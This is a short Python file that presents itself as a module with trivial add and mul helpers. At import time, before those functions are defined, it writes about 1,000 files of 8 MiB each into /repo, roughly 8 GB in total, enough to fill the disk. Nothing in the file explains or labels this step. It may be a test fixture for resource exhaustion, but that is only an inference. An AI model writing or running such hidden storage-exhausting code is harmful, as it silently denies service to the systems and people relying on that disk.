import time

for number in range(1000):
    with open(f"/repo/{number}", "wb", buffering=0) as file:
        for _ in range(8):
            file.write(bytes(2**20))
    time.sleep(0.02)


def add(a, b):
    return a + b

def mul(a, b):
    return a * b
